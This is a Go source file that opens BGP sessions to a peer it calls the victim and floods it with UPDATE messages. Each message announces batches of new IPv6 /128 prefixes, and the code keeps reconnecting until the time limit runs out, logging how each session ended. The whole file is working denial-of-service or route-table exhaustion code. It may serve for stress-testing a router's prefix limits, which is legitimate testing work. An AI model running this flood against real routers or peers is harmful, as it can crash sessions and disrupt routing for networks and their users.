package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"time"
)

const (
	floodBatch = 200              // prefixes in one UPDATE of the flood
	floodMore  = 30 * time.Second // how long a session goes on at most that has begun before the end of the time
)

// floodBGP announces ever new /128s until the victim ends the session, as often
// as the victim takes a connection within the time. It prints how each session
// ended: the victim has long for that, also when the session began just before the time was over.
func floodBGP(local, peer string, asn uint16, lasting time.Duration) error {
	end := time.Now().Add(lasting)
	sessions := 0
	for first := uint32(0); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		conn, err := dial(local, peer)
		if err != nil {
			continue
		}
		sent, answer, err := floodOn(conn, asn, first, end)
		conn.Close()
		if err != nil {
			continue // it is not taken yet
		}
		sessions++
		first += sent
		fmt.Printf("%d prefixes: %s\n", sent, answer)
	}
	if sessions == 0 {
		return errors.New("no connection was taken")
	}
	return nil
}

func floodOn(conn net.Conn, asn uint16, first uint32, end time.Time) (sent uint32, answer string, err error) {
	if err := conn.SetDeadline(time.Now().Add(openFor)); err != nil {
		return 0, "", err
	}
	if err := handshake(conn, asn); err != nil {
		return 0, "", err
	}
	end = end.Add(floodMore)
	if err := conn.SetDeadline(end.Add(openFor)); err != nil {
		return 0, "", err
	}
	ended := make(chan string, 1)
	go func() { ended <- answerOn(conn) }()
	for time.Now().Before(end) {
		if _, err := conn.Write(floodUpdate(asn, first+sent)); err != nil {
			return sent, <-ended, nil //nolint:nilerr // the other side says why
		}
		sent += floodBatch
		select {
		case answer := <-ended:
			return sent, answer, nil
		default:
		}
	}
	return sent, "it goes on", nil
}

// answerOn reads until the session ends, and says how.
func answerOn(conn net.Conn) string {
	for {
		typ, body, err := read(conn)
		if err != nil {
			return "closed"
		}
		if typ == typeNotification && len(body) >= 2 {
			return fmt.Sprintf("NOTIFICATION %d/%d", body[0], body[1])
		}
	}
}

// floodUpdate announces floodBatch prefixes of 2001:db8:f100::/40 from the nth on.
func floodUpdate(asn uint16, n uint32) []byte {
	reach := append([]byte{0, 2, 1, 16, 0x20, 1, 0xd, 0xb8}, make([]byte, 13)...)
	for i := range uint32(floodBatch) {
		reach = append(reach, 128, 0x20, 1, 0xd, 0xb8, 0xf1, 0, 0, 0, 0, 0, 0, 0)
		reach = binary.BigEndian.AppendUint32(reach, n+i)
	}
	return update(attr(0x40, 1, 0), attr(0x40, 2, path(asn, 1)...), longAttr(0x90, 14, reach))
}
